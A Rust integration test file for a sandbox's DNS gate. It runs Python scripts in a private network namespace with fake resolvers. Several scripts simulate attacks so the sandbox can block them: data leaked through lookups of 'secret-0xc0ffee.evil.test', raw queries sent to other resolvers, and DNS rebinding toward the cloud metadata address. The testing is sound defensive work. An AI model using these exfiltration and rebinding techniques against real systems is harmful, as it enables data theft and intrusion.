//! The DNS gate, from outside: a network namespace the test creates holds fake upstream
//! resolvers (whose query logs are the observers), services on loopback addresses, and guard
//! with a `resolv.conf` naming the fake resolver (bind-mounted in a mount namespace of guard's
//! own). Nothing here touches the host's network or files.

use std::collections::HashMap;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use hickory_proto::op::{Message, MessageType, OpCode, ResponseCode};
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{RData, Record};

use crate::support::{Run, TempDir, guard_bin, require_root, write_profile};

/// The resolver `resolv.conf` names.
const UPSTREAM: &str = "127.0.0.1:53";
/// Other places a tool could send a query: another server, another port, IPv6.
const OTHER_SERVER: &str = "127.0.0.2:53";
const OTHER_PORT: &str = "127.0.0.1:5353";
const V6_SERVER: &str = "[::1]:53";
/// Services the names point at.
const SERVICE_A: &str = "127.0.0.5:8080";
const SERVICE_B: &str = "127.0.0.6:8080";
const SERVICE_EVIL: &str = "127.0.0.7:8080";

/// What the fake resolvers answer: name -> the answers, used in turn (the last one repeats).
type Zone = HashMap<String, Vec<(Ipv4Addr, u32)>>;

/// A private network namespace with fake resolvers and services.
struct Lab {
    netns: OwnedFd,
    /// The tool's working directory (writable under the profile).
    dir: TempDir,
    /// Where audit logs go: outside every write path of the profile.
    logs: TempDir,
    /// Every message the fake resolvers received: "SERVER PROTO NAME" (NAME `-` when the
    /// bytes were not DNS).
    queries: Arc<Mutex<Vec<String>>>,
    /// Every connection a service accepted, by the service's address.
    reached: Arc<Mutex<Vec<String>>>,
    /// Whether the namespace's loopback has ::1 (a fake resolver listens there too).
    has_v6: bool,
}

impl Lab {
    fn new(label: &str, zone: Zone) -> Lab {
        let queries = Arc::new(Mutex::new(Vec::new()));
        let reached = Arc::new(Mutex::new(Vec::new()));
        let zone = Arc::new(Mutex::new((zone, HashMap::<String, usize>::new())));
        let (tx, rx) = std::sync::mpsc::channel();
        let (q, r) = (queries.clone(), reached.clone());
        // unshare(CLONE_NEWNET) moves only the calling thread: the lab's sockets are made on
        // this thread, and keep their namespace wherever they are served.
        std::thread::spawn(move || {
            // SAFETY: plain system calls.
            assert_eq!(
                unsafe { libc::unshare(libc::CLONE_NEWNET) },
                0,
                "unshare(NEWNET)"
            );
            loopback_up();
            let netns: OwnedFd = std::fs::File::open("/proc/thread-self/ns/net")
                .unwrap()
                .into();
            let mut servers: Vec<SocketAddr> = [UPSTREAM, OTHER_SERVER, OTHER_PORT]
                .iter()
                .map(|a| a.parse().unwrap())
                .collect();
            let has_v6 = UdpSocket::bind("[::1]:0").is_ok();
            if has_v6 {
                servers.push(V6_SERVER.parse().unwrap());
            }
            for server in servers {
                let udp = UdpSocket::bind(server).unwrap();
                let tcp = TcpListener::bind(server).unwrap();
                let (q1, z1) = (q.clone(), zone.clone());
                std::thread::spawn(move || serve_udp(udp, server, &q1, &z1));
                let (q2, z2) = (q.clone(), zone.clone());
                std::thread::spawn(move || serve_tcp(tcp, server, &q2, &z2));
            }
            for service in [SERVICE_A, SERVICE_B, SERVICE_EVIL] {
                let listener = TcpListener::bind(service).unwrap();
                let r = r.clone();
                std::thread::spawn(move || {
                    for stream in listener.incoming().flatten() {
                        r.lock().unwrap().push(service.to_owned());
                        drop(stream);
                    }
                });
            }
            tx.send((netns, has_v6)).unwrap();
        });
        let (netns, has_v6) = rx.recv().unwrap();
        let dir = TempDir::new(label);
        let logs = TempDir::new(&format!("{label}-logs"));
        std::fs::create_dir_all(dir.path().join("tmp")).unwrap();
        std::fs::write(dir.path().join("resolv.conf"), "nameserver 127.0.0.1\n").unwrap();
        Lab {
            netns,
            dir,
            logs,
            queries,
            reached,
            has_v6,
        }
    }

    /// Runs `program args` in the lab: its network namespace, and a mount namespace where
    /// `/etc/resolv.conf` names the fake resolver.
    fn run(&self, program: &std::path::Path, args: &[&str]) -> Run {
        let netns = self.netns.as_raw_fd();
        let resolv = std::ffi::CString::new(
            self.dir
                .path()
                .join("resolv.conf")
                .to_str()
                .unwrap()
                .as_bytes(),
        )
        .unwrap();
        let mut command = Command::new(program);
        command
            .args(args)
            // The python profile writes ${TMPDIR}: a private one, not the /tmp that holds the
            // audit logs.
            .env("TMPDIR", self.dir.path().join("tmp"))
            .current_dir(self.dir.path())
            .stdin(Stdio::null());
        // SAFETY: only system calls on memory prepared before fork run in the child.
        unsafe {
            command.pre_exec(move || {
                let check = |rc: libc::c_int| {
                    if rc == 0 {
                        Ok(())
                    } else {
                        Err(std::io::Error::last_os_error())
                    }
                };
                check(libc::setns(netns, libc::CLONE_NEWNET))?;
                check(libc::unshare(libc::CLONE_NEWNS))?;
                check(libc::mount(
                    std::ptr::null(),
                    c"/".as_ptr(),
                    std::ptr::null(),
                    libc::MS_REC | libc::MS_PRIVATE,
                    std::ptr::null(),
                ))?;
                check(libc::mount(
                    resolv.as_ptr(),
                    c"/etc/resolv.conf".as_ptr(),
                    std::ptr::null(),
                    libc::MS_BIND,
                    std::ptr::null(),
                ))
            });
        }
        command.output().unwrap().into()
    }

    /// Runs the python `script` bare (no guard).
    fn bare(&self, script: &str, args: &[&str]) -> Run {
        let path = self.script(script);
        let mut all = vec![path.as_str()];
        all.extend_from_slice(args);
        self.run(std::path::Path::new("/usr/bin/python3"), &all)
    }

    /// Runs the python `script` under a profile extending `python` with `network`, and the
    /// audit log at `log`.
    fn guarded(&self, network: &str, log: &std::path::Path, script: &str, args: &[&str]) -> Run {
        let profile = write_profile(
            &self.dir,
            "dns",
            &format!(
                r#"
extends = ["python"]
[filesystem]
read = ["/etc/hosts", "/etc/resolv.conf", "/etc/host.conf", "/etc/gai.conf"]
[network]
{network}
"#
            ),
        );
        let path = self.script(script);
        let mut all = vec![
            "exec",
            "--profile",
            &profile,
            "--audit-log",
            log.to_str().unwrap(),
            "--",
            "/usr/bin/python3",
            path.as_str(),
        ];
        all.extend_from_slice(args);
        self.run(&guard_bin(), &all)
    }

    fn script(&self, text: &str) -> String {
        let path = self.dir.path().join(format!("t{}.py", self.count()));
        // Readable by the sandbox (${CWD}).
        std::fs::write(&path, text).unwrap();
        path.to_string_lossy().into_owned()
    }

    fn count(&self) -> usize {
        std::fs::read_dir(self.dir.path()).unwrap().count()
    }

    /// The queries the fake resolvers saw that mention `needle`.
    fn queries_with(&self, needle: &str) -> Vec<String> {
        let q = self.queries.lock().unwrap();
        q.iter().filter(|l| l.contains(needle)).cloned().collect()
    }

    fn reached(&self, service: &str) -> usize {
        let r = self.reached.lock().unwrap();
        r.iter().filter(|s| *s == service).count()
    }
}

/// Sets `lo` up in the calling thread's network namespace.
fn loopback_up() {
    // SAFETY: a socket for the ioctl, an ifreq-sized buffer with the name and flags.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
        assert!(fd >= 0);
        let mut ifr = [0u8; 40];
        ifr[..2].copy_from_slice(b"lo");
        let flags = (libc::IFF_UP | libc::IFF_RUNNING) as i16;
        ifr[16..18].copy_from_slice(&flags.to_ne_bytes());
        assert_eq!(
            libc::ioctl(fd, libc::SIOCSIFFLAGS, ifr.as_mut_ptr()),
            0,
            "lo up"
        );
        libc::close(fd);
    }
}

type SharedZone = Arc<Mutex<(Zone, HashMap<String, usize>)>>;

/// The fake resolver's reply to `bytes` (logging it), or None for non-DNS bytes.
fn reply(
    bytes: &[u8],
    server: SocketAddr,
    proto: &str,
    log: &Mutex<Vec<String>>,
    zone: &SharedZone,
) -> Option<Vec<u8>> {
    let Ok(query) = Message::from_vec(bytes) else {
        log.lock()
            .unwrap()
            .push(format!("{server} {proto} - {} bytes", bytes.len()));
        return None;
    };
    let q = query.queries.first()?.clone();
    let name = q.name.to_ascii().trim_end_matches('.').to_ascii_lowercase();
    log.lock().unwrap().push(format!("{server} {proto} {name}"));
    let mut reply = Message::new(query.metadata.id, MessageType::Response, OpCode::Query);
    reply.metadata.recursion_available = true;
    reply.metadata.recursion_desired = query.metadata.recursion_desired;
    reply.queries = query.queries.clone();
    let mut z = zone.lock().unwrap();
    let (zone, turns) = &mut *z;
    match zone.get(&name) {
        Some(answers) if !answers.is_empty() => {
            let turn = turns.entry(name.clone()).or_default();
            let (ip, ttl) = answers[(*turn).min(answers.len() - 1)];
            if q.query_type == hickory_proto::rr::RecordType::A {
                *turn += 1;
                reply.add_answer(Record::from_rdata(q.name.clone(), ttl, RData::A(A(ip))));
            }
        }
        _ => reply.metadata.response_code = ResponseCode::NXDomain,
    }
    reply.to_vec().ok()
}

fn serve_udp(socket: UdpSocket, server: SocketAddr, log: &Mutex<Vec<String>>, zone: &SharedZone) {
    let mut buf = [0u8; 4096];
    while let Ok((n, peer)) = socket.recv_from(&mut buf) {
        if let Some(r) = reply(&buf[..n], server, "udp", log, zone) {
            let _ = socket.send_to(&r, peer);
        }
    }
}

fn serve_tcp(
    listener: TcpListener,
    server: SocketAddr,
    log: &Mutex<Vec<String>>,
    zone: &SharedZone,
) {
    for stream in listener.incoming().flatten() {
        let mut stream = stream;
        let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
        let mut all = Vec::new();
        let mut buf = [0u8; 4096];
        // Whatever arrives is logged: a stream carrying anything but DNS shows up here.
        while let Ok(n) = stream.read(&mut buf) {
            if n == 0 {
                break;
            }
            all.extend_from_slice(&buf[..n]);
            if all.len() >= 2 {
                let len = usize::from(u16::from_be_bytes([all[0], all[1]]));
                if all.len() >= 2 + len {
                    break;
                }
            }
        }
        if all.len() < 2 {
            log.lock()
                .unwrap()
                .push(format!("{server} tcp - {} bytes", all.len()));
            continue;
        }
        let message = &all[2..];
        if let Some(r) = reply(message, server, "tcp", log, zone) {
            let mut framed = (r.len() as u16).to_be_bytes().to_vec();
            framed.extend_from_slice(&r);
            let _ = stream.write_all(&framed);
        }
    }
}

/// The audit log's records.
fn records(log: &std::path::Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn zone(entries: &[(&str, &[(&str, u32)])]) -> Zone {
    entries
        .iter()
        .map(|(name, answers)| {
            (
                (*name).to_owned(),
                answers
                    .iter()
                    .map(|(ip, ttl)| (ip.parse().unwrap(), *ttl))
                    .collect(),
            )
        })
        .collect()
}

/// Resolves each argument with the system resolver (glibc: resolv.conf, UDP) and connects to
/// port 8080 of the first address.
const RESOLVE_AND_CONNECT: &str = r#"
import socket, sys
for name in sys.argv[1:]:
    try:
        addr = socket.getaddrinfo(name, 8080, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    except Exception as e:
        print(f"{name} unresolved {e}")
        continue
    try:
        socket.create_connection(addr, timeout=3).close()
        print(f"{name} {addr[0]} connected")
    except Exception as e:
        print(f"{name} {addr[0]} refused {e}")
"#;

#[test]
fn a_permitted_name_resolves_and_connects_and_another_never_leaves_the_host() {
    require_root!();
    let lab = Lab::new(
        "dns-permit",
        zone(&[
            ("api.test", &[("127.0.0.5", 60)]),
            ("secret-0xc0ffee.evil.test", &[("127.0.0.7", 60)]),
        ]),
    );
    // Bare, both names resolve and both services are reached: the lookup is a channel out.
    let bare = lab.bare(
        RESOLVE_AND_CONNECT,
        &["api.test", "secret-0xc0ffee.evil.test"],
    );
    assert!(
        bare.stdout.contains("api.test 127.0.0.5 connected"),
        "{bare}"
    );
    assert!(
        bare.stdout
            .contains("secret-0xc0ffee.evil.test 127.0.0.7 connected"),
        "{bare}"
    );
    assert!(!lab.queries_with("secret-0xc0ffee").is_empty());
    lab.queries.lock().unwrap().clear();
    lab.reached.lock().unwrap().clear();

    let log = lab.logs.path().join("dns-permit-audit.jsonl");
    let out = lab.guarded(
        r#"connect = ["api.test:8080"]"#,
        &log,
        RESOLVE_AND_CONNECT,
        &["api.test", "secret-0xc0ffee.evil.test"],
    );
    assert_eq!(out.code(), 0, "{out}");
    assert!(out.stdout.contains("api.test 127.0.0.5 connected"), "{out}");
    assert!(
        out.stdout.contains("secret-0xc0ffee.evil.test unresolved"),
        "{out}"
    );
    assert!(
        out.stderr
            .contains("DNS lookup of secret-0xc0ffee.evil.test"),
        "{out}"
    );
    // The upstream resolver was asked the permitted name, never the other one.
    assert!(!lab.queries_with("api.test").is_empty());
    assert_eq!(lab.queries_with("secret-0xc0ffee"), Vec::<String>::new());
    assert_eq!(lab.reached(SERVICE_A), 1);
    assert_eq!(lab.reached(SERVICE_EVIL), 0);

    let records = records(&log);
    let _ = std::fs::remove_file(&log);
    let denied = records
        .iter()
        .find(|r| r["event"] == "dns" && r["verdict"] == "deny")
        .expect("a dns deny record");
    assert_eq!(denied["detail"]["name"], "secret-0xc0ffee.evil.test");
    assert_eq!(denied["rule"], "network.connect");
    let allowed = records
        .iter()
        .find(|r| r["event"] == "dns" && r["verdict"] == "allow")
        .expect("a dns allow record");
    assert_eq!(allowed["detail"]["answers"][0]["addr"], "127.0.0.5");
    // The connect to the learned address names the name it came from.
    let connect = records
        .iter()
        .find(|r| r["event"] == "connect" && r["detail"]["dst"] == SERVICE_A)
        .expect("the connect record");
    assert_eq!(connect["detail"]["name"], "api.test");
}

/// Sends a query for `name` as raw bytes to each `server` the tool picks itself, over UDP and
/// TCP, plus a TCP/53 stream of non-DNS bytes; prints what each attempt got.
const RAW_QUERIES: &str = r#"
import socket, struct, sys
name = sys.argv[1]
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
for server in sys.argv[2:]:
    host, port = server.rsplit(":", 1)
    host = host.strip("[]")
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(2)
        s.sendto(q, (host, int(port)))
        r = s.recv(4096)
        print(f"udp {server} rcode {r[3] & 15} answers {struct.unpack('>H', r[6:8])[0]}")
    except Exception as e:
        print(f"udp {server} failed {e}")
    try:
        t = socket.create_connection((host, int(port)), timeout=2)
        t.sendall(struct.pack(">H", len(q)) + q)
        r = t.recv(4096)
        print(f"tcp {server} rcode {r[5] & 15}")
        t.close()
    except Exception as e:
        print(f"tcp {server} failed {e}")
    try:
        t = socket.create_connection((host, int(port)), timeout=2)
        t.sendall(b"RAW-SECRET-0xc0ffee-not-dns-at-all" * 4)
        t.settimeout(2)
        print(f"raw {server} got {len(t.recv(4096))}")
        t.close()
    except Exception as e:
        print(f"raw {server} failed {e}")
"#;

#[test]
fn a_query_outside_the_profile_reaches_no_resolver_whatever_server_port_or_transport() {
    require_root!();
    let lab = Lab::new(
        "dns-raw",
        zone(&[("x-0xc0ffee.evil.test", &[("127.0.0.7", 60)])]),
    );
    let mut servers = vec![UPSTREAM, OTHER_SERVER, OTHER_PORT];
    let v6 = lab.has_v6;
    if v6 {
        servers.push(V6_SERVER);
    }
    let mut args = vec!["x-0xc0ffee.evil.test"];
    args.extend_from_slice(&servers);
    // Bare, every server gets the name, and the raw TCP bytes arrive.
    let bare = lab.bare(RAW_QUERIES, &args);
    for server in [UPSTREAM, OTHER_SERVER, OTHER_PORT] {
        assert!(
            bare.stdout
                .contains(&format!("udp {server} rcode 0 answers 1")),
            "{bare}"
        );
        assert!(
            !lab.queries_with(&format!("{server} udp x-0xc0ffee"))
                .is_empty(),
            "{server}: {bare}"
        );
        assert!(
            !lab.queries_with(&format!("{server} tcp -")).is_empty(),
            "{bare}"
        );
    }
    lab.queries.lock().unwrap().clear();

    let log = lab.logs.path().join("dns-raw-audit.jsonl");
    let out = lab.guarded(r#"connect = ["api.test:443"]"#, &log, RAW_QUERIES, &args);
    assert_eq!(out.code(), 0, "{out}");
    // No resolver saw anything: not the name, not the raw bytes, on no server or port.
    assert_eq!(*lab.queries.lock().unwrap(), Vec::<String>::new(), "{out}");
    // Port 53 anywhere is the gate, which refuses (rcode 5) over UDP and TCP and drops the
    // connection that carries no DNS; another port is a plain connect, refused.
    for server in [UPSTREAM, OTHER_SERVER] {
        assert!(
            out.stdout.contains(&format!("udp {server} rcode 5")),
            "{out}"
        );
        assert!(
            out.stdout.contains(&format!("tcp {server} rcode 5")),
            "{out}"
        );
        assert!(
            !out.stdout.contains(&format!("raw {server} got 1")),
            "{out}"
        );
    }
    if v6 {
        assert!(
            out.stdout.contains(&format!("udp {V6_SERVER} rcode 5")),
            "{out}"
        );
    }
    assert!(
        out.stdout.contains(&format!("udp {OTHER_PORT} failed")),
        "{out}"
    );
    assert!(
        out.stdout.contains(&format!("tcp {OTHER_PORT} failed")),
        "{out}"
    );
    let records = records(&log);
    let _ = std::fs::remove_file(&log);
    assert!(
        records
            .iter()
            .any(|r| r["event"] == "dns" && r["detail"]["name"] == "x-0xc0ffee.evil.test"),
        "no dns record for the name"
    );
    assert!(
        records
            .iter()
            .any(|r| r["event"] == "dns" && r["detail"]["why"] == "not a DNS message"),
        "no record of the raw stream"
    );
}

/// Resolves, connects, waits for the answer to move and the old one to expire, and tries
/// both addresses at each step.
const ROTATION: &str = r#"
import socket, time
def resolve():
    return socket.getaddrinfo("api.test", 8080, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
def connect(ip):
    try:
        socket.create_connection((ip, 8080), timeout=2).close(); return "connected"
    except Exception as e:
        return f"refused {e}"
first = resolve()
print("first", first, connect(first))
second = resolve()
print("second", second, connect(second))
time.sleep(3.5)
print("after expiry", first, connect(first))
print("after expiry", second, connect(second))
again = resolve()
print("again", again, connect(again))
"#;

#[test]
fn when_the_answer_moves_the_new_address_connects_and_the_old_one_expires() {
    require_root!();
    // TTL 1 s: below the gate's floor of 2 s, so each address is trusted for 2 s.
    let lab = Lab::new(
        "dns-ttl",
        zone(&[("api.test", &[("127.0.0.5", 1), ("127.0.0.6", 1)])]),
    );
    let log = lab.logs.path().join("dns-ttl-audit.jsonl");
    let out = lab.guarded(r#"connect = ["api.test:8080"]"#, &log, ROTATION, &[]);
    let _ = std::fs::remove_file(&log);
    assert_eq!(out.code(), 0, "{out}");
    assert!(out.stdout.contains("first 127.0.0.5 connected"), "{out}");
    assert!(out.stdout.contains("second 127.0.0.6 connected"), "{out}");
    assert!(
        out.stdout.contains("after expiry 127.0.0.5 refused"),
        "{out}"
    );
    assert!(
        out.stdout.contains("after expiry 127.0.0.6 refused"),
        "{out}"
    );
    assert!(out.stdout.contains("again 127.0.0.6 connected"), "{out}");
    assert_eq!(lab.reached(SERVICE_A), 1);
    assert_eq!(lab.reached(SERVICE_B), 2);
}

#[test]
fn a_refused_name_ends_the_sandbox_when_network_violations_kill() {
    require_root!();
    let lab = Lab::new("dns-kill", zone(&[("x.evil.test", &[("127.0.0.7", 60)])]));
    let after = lab.dir.path().join("after-lookup");
    let script = format!(
        "import socket, time\n\
         try:\n    socket.getaddrinfo('x.evil.test', 80, socket.AF_INET)\nexcept OSError:\n    pass\n\
         time.sleep(2)\n\
         open({:?}, 'w').write('alive')\n",
        after.display().to_string()
    );
    let log = lab.logs.path().join("dns-kill-audit.jsonl");
    let out = lab.guarded(
        "connect = [\"api.test:443\"]\n[on_violation]\nnetwork = \"kill\"",
        &log,
        &script,
        &[],
    );
    assert_eq!(out.code(), 137, "{out}");
    assert!(out.stderr.contains("guard: killed"), "{out}");
    assert!(
        !after.exists(),
        "the sandbox went on after the refused lookup"
    );
    assert_eq!(lab.queries_with("evil"), Vec::<String>::new());
    let records = records(&log);
    assert!(
        records
            .iter()
            .any(|r| r["event"] == "dns" && r["verdict"] == "kill"),
        "no kill record: {records:?}"
    );
}

#[test]
fn a_permitted_name_answering_a_link_local_address_does_not_open_it() {
    require_root!();
    // DNS rebinding by whoever controls a permitted name, towards the cloud metadata service.
    let lab = Lab::new(
        "dns-rebind",
        zone(&[("meta.test", &[("169.254.169.254", 60)])]),
    );
    let script = "import socket\n\
                  addr = socket.getaddrinfo('meta.test', 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]\n\
                  print('resolved', addr[0])\n\
                  s = socket.socket()\n\
                  s.settimeout(2)\n\
                  try:\n    s.connect(addr); print('connected')\nexcept OSError as e:\n    print('errno', e.errno)\n";
    // Bare, the connect goes out (this namespace has no route, so it fails with ENETUNREACH,
    // after the kernel tried to send it).
    let bare = lab.bare(script, &[]);
    assert!(bare.stdout.contains("resolved 169.254.169.254"), "{bare}");
    assert!(
        bare.stdout
            .contains(&format!("errno {}", libc::ENETUNREACH)),
        "{bare}"
    );
    let log = lab.logs.path().join("dns-rebind-audit.jsonl");
    let out = lab.guarded(r#"connect = ["meta.test:80"]"#, &log, script, &[]);
    // The lookup is answered, the address is not learned: EPERM before any packet.
    assert!(out.stdout.contains("resolved 169.254.169.254"), "{out}");
    assert!(
        out.stdout.contains(&format!("errno {}", libc::EPERM)),
        "{out}"
    );
    let records = records(&log);
    let dns = records
        .iter()
        .find(|r| r["event"] == "dns" && r["detail"]["name"] == "meta.test")
        .expect("the dns record");
    assert!(
        dns["detail"]["not_learned"][0]["why"]
            .as_str()
            .is_some_and(|w| w.contains("link-local")),
        "{dns}"
    );
}
